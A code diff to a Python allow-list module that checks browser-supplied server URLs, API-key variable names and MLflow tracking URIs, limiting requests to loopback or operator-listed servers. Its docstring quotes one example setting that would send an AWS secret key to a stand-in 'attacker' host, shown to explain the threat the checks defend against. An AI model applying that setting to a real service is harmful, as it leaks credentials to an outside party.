@@ -1,5 +1,6 @@
-"""Which models and adapters a browser user may name: bundled aliases, the app's home, and an
-operator's allow-list (`<home>/allowed_paths.yaml`).
+"""Which models, adapters, servers and secrets a browser user may name: bundled aliases, the
+app's home, this machine's loopback servers, and an operator's allow-list
+(`<home>/allowed_paths.yaml`).
 
 A model or adapter field typed in the browser is a path on the server: unchecked, it loads any
 folder the app can read (or, with an adapter search, walks the whole file system) and any hub id
@@ -7,6 +8,14 @@ folder the app can read (or, with an adapter search, walks the whole file system
 
     paths: [/srv/models, /data/adapters]   # folders whose contents users may name
     allow_hub_ids: false                   # true: Hugging Face ids too (needs a reachable hub)
+    servers: [http://127.0.0.1, http://localhost, https://vllm.internal:8000]
+    api_key_envs: [VLLM_API_KEY]           # environment variables a run may send as a key
+
+A server URL typed in the browser is a request the server makes (to anything it can reach), and
+an API-key variable name is a secret of the server's environment sent to that URL: unchecked,
+`base_url=http://attacker/ api_key_env=AWS_SECRET_ACCESS_KEY` hands the secret over. So servers
+are this machine's loopback unless the operator lists more, and no variable is sent unless the
+operator lists it. A tracking URI is a place MLflow writes: the app's home, or a listed server.
 """
 
 from __future__ import annotations
@@ -15,6 +24,7 @@ import re
 from collections.abc import Iterable
 from dataclasses import dataclass
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import yaml
 
@@ -22,6 +32,7 @@ from core.config import ConfigBase, ConfigError, check, option
 from core.paths import is_within
 
 ALLOW_FILE = "allowed_paths.yaml"
+LOOPBACK = ("http://127.0.0.1", "http://localhost", "http://[::1]")
 # owner/name as on the Hugging Face hub (a single name is an old-style id, refused as ambiguous)
 _HUB_ID = re.compile(r"^[A-Za-z0-9][\w.-]{0,95}/[A-Za-z0-9][\w.-]{0,95}$")
 
@@ -34,11 +45,23 @@ class LocationRefused(ValueError):
 class AllowList(ConfigBase):
     paths: list[str] = option([], "Folders whose models and adapters users may name.")
     allow_hub_ids: bool = option(False, "Let users name Hugging Face hub ids (owner/name).")
+    servers: list[str] = option(
+        list(LOOPBACK),
+        "Server URLs users may point a model, judge or tracker at; an entry without a port "
+        "allows every port of that host, one with a path allows what lies under it.",
+    )
+    api_key_envs: list[str] = option(
+        [], "Environment variables whose value a run may send to a server as its API key."
+    )
 
     def validate(self) -> None:
         check(isinstance(self.paths, list), "paths must be a list of folders")
         check(all(isinstance(p, str) and p for p in self.paths), "paths must be folder names")
         check(isinstance(self.allow_hub_ids, bool), "allow_hub_ids must be true or false")
+        check(isinstance(self.servers, list), "servers must be a list of URLs")
+        for url in self.servers:
+            check(_split(url) is not None, f"servers: {url!r} is not an http(s) URL")
+        check(isinstance(self.api_key_envs, list), "api_key_envs must be a list of names")
 
 
 def load_allowlist(home: str | Path) -> AllowList:
@@ -100,3 +123,89 @@ def check_model(value: str, kind: str, home: str | Path, allow: AllowList | None
 
     aliases = BUNDLED_GENERATORS if kind == "generator" else BUNDLED_EMBEDDERS
     return check_location(value, home=home, aliases=aliases, allow=allow, what=kind)
+
+
+def _split(url: str) -> tuple[str, str, int | None, str] | None:
+    """(scheme, host, port or None, path) of an http(s) URL without credentials, else None."""
+    try:
+        parts = urlsplit(str(url).strip())
+        port = parts.port
+    except ValueError:  # a port that is not a number, a broken IPv6 literal
+        return None
+    if parts.scheme not in ("http", "https") or not parts.hostname or "@" in parts.netloc:
+        return None
+    return parts.scheme, parts.hostname.lower(), port, parts.path.rstrip("/")
+
+
+def check_server(url: str, allow: AllowList | None = None, what: str = "server") -> str:
+    """`url` if a browser user may point a request at it, else LocationRefused with the reason:
+    an http(s) URL without credentials under one of the allow-list's servers."""
+    allow = allow or AllowList()
+    got = _split(url)
+    if got is None:
+        shown = str(url)[:100]
+        raise LocationRefused(f"{what} {shown!r} is not an http(s) URL (no user:password@)")
+    scheme, host, port, path = got
+    for entry in allow.servers:
+        want = _split(entry)
+        if want is None or (want[0], want[1]) != (scheme, host):
+            continue
+        if want[2] is not None and want[2] != port:
+            continue
+        if path == want[3] or path.startswith(want[3] + "/"):
+            return str(url).strip()
+    raise LocationRefused(
+        f"{what} {scheme}://{host}{f':{port}' if port else ''} is not one this server lets users "
+        f"reach (servers in {ALLOW_FILE}; by default only this machine's loopback)"
+    )
+
+
+def check_key_env(name: str, allow: AllowList | None = None) -> str:
+    """`name` ('' for none) if a run started from the browser may send that environment
+    variable's value as an API key, else LocationRefused."""
+    allow = allow or AllowList()
+    if not name or name in allow.api_key_envs:
+        return name
+    raise LocationRefused(
+        f"API key variable {name[:60]!r} is not one this server sends (api_key_envs in "
+        f"{ALLOW_FILE})"
+    )
+
+
+def check_tracking_uri(uri: str, home: str | Path, allow: AllowList | None = None) -> str:
+    """`uri` if a browser user may have MLflow write there: a local store (a folder, file: or
+    sqlite:///) inside the app's home, or an allowed server; else LocationRefused."""
+    text = str(uri or "").strip()
+    if text.startswith(("http://", "https://")):
+        return check_server(text, allow, what="tracking server")
+    local = text.removeprefix("sqlite:///").removeprefix("file://")
+    if "://" in local or ":" in local.split("/", 1)[0]:
+        raise LocationRefused(f"tracking URI {text[:100]!r}: only http(s), file and sqlite")
+    # Absolute only: MLflow reads a relative path from its working folder, not the home.
+    if not Path(local).is_absolute() or not is_within(local, home):
+        raise LocationRefused(
+            f"tracking URI {text[:100]!r} is outside the app's data folder; name a folder in it "
+            "or an allowed tracking server"
+        )
+    return text
+
+
+def check_servers_and_keys(
+    settings: dict, home: str | Path, allow: AllowList | None = None
+) -> None:
+    """Check, in RunConfig settings typed in the browser, every server URL, API-key variable,
+    judge model and tracking URI (LocationRefused naming the first refused); models given as
+    paths are check_model's."""
+    allow = allow or AllowList()
+    models = settings.get("models") or {}
+    judge = settings.get("judge") or {}
+    for section, what in ((models, "model server"), (judge, "judge server")):
+        if section.get("base_url"):
+            section["base_url"] = check_server(section["base_url"], allow, what)
+        check_key_env(section.get("api_key_env", ""), allow)
+    judge_engine = judge.get("engine") or models.get("engine", "")
+    if judge.get("model") and judge_engine != "openai":  # on a server it is the served name
+        judge["model"] = check_model(judge["model"], "generator", home, allow)
+    tracking = settings.get("tracking") or {}
+    if tracking.get("uri"):
+        tracking["uri"] = check_tracking_uri(tracking["uri"], home, allow)
